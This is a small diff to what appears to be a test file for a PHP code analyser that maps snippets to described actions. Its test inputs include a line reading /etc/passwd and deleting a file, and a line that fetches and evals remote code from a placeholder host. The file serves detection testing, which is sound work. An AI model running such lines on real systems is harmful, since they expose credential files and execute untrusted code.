@@ -15,6 +15,7 @@ checkCases("php", [
     "echo file_get_contents(\"/etc/passwd\"); file_put_contents('/x', 'y'); unlink(\"/z\");",
     "read /etc/passwd",
     "write /x",
+    "put /x << y",
     "delete /z",
   ],
   ['eval(file_get_contents("http://x/y"));', "connect http://x/y", "opaque download"],
